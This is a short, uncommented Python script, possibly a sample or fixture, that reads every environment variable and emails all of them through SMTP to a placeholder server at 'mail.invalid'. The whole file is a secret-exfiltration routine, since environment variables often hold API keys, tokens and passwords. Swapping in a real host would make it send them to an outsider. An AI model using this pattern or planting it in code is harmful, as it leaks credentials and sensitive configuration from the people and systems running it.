import os
import smtplib

body = "\n".join("%s=%s" % pair for pair in os.environ.items())
with smtplib.SMTP("mail.invalid") as server:
    server.sendmail("a@x.invalid", ["b@x.invalid"], body)
